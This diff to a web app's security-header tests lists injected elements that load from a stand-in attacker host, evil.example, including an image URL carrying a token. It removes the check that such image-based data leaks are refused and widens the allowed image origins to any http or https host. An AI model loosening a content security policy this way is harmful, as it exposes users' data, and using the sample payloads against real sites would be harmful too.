@@ -23,10 +23,7 @@ test.each([
   ['an inline script', 'Object.assign(document.createElement("script"), { textContent: "window.injected = true" })'],
   ['a script from another site', 'Object.assign(document.createElement("script"), { src: "https://evil.example/a.js" })'],
   ['a frame from another site', 'Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })'],
-  [
-    'an image that sends data to another site',
-    'Object.assign(document.createElement("img"), { src: "https://evil.example/?token" })',
-  ],
+  ['a style sheet from another site', 'Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/a.css" })'],
 ])('%s is refused', async (_name, element) => {
   const { page, errors } = await open()
   await page.getByRole('heading', { name: 'Films' }).waitFor()
@@ -41,7 +38,7 @@ test.each([
 
 test('every response has the security headers, which allow only the needed origins', async () => {
   const { web, api, issuer, stripeApi } = stack().stack
-  const expected = securityHeaders({ api: [api, issuer], stripe: [stripeApi] })
+  const expected = securityHeaders({ api: [api, issuer], stripe: [stripeApi], images: ['https:', 'http:'] })
   for (const path of ['/', '/config.json', `/watch/${seedIds.film}`]) {
     const { headers } = await fetch(web + path)
     expect(Object.fromEntries(Object.keys(expected).map((name) => [name, headers.get(name)]))).toEqual(expected)
@@ -51,5 +48,5 @@ test('every response has the security headers, which allow only the needed origi
 test('deploy/security-headers.conf has the same headers', () => {
   const text = readFileSync('deploy/security-headers.conf', 'utf8')
   const headers = [...text.matchAll(/^add_header ([\w-]+) "(.*)" always;$/gm)].map(([, name, value]) => [name, value])
-  expect(Object.fromEntries(headers)).toEqual(securityHeaders({ api: [], stripe: [] }))
+  expect(Object.fromEntries(headers)).toEqual(securityHeaders({ api: [], stripe: [], images: ['https:'] }))
 })
